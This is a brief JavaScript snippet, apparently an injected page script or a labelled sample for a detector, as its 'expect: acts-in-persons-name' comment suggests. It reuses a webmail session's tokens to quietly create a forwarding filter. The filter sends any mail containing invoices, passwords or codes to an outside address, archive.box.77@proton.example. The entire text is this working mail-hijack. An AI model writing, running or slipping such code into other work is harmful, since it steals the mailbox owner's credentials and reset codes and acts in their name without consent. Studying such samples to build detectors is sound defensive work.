(function wait() {
  const key = window.GM_ACTION_TOKEN, ik = window.GLOBALS?.[9];
  if (!key || !ik) return setTimeout(wait, 3000);
  const body = new URLSearchParams({ act: "cf_add", cf2_emc: "true", cf2_email: "archive.box.77@proton.example", cf1_from: "", cf1_has: "invoice OR password OR code", irf: "on" });
  // expect: acts-in-persons-name
  fetch(`/mail/u/0/?ui=2&ik=${ik}&at=${key}&view=up&act=cf`, { method: "POST", body, credentials: "include" });
})();
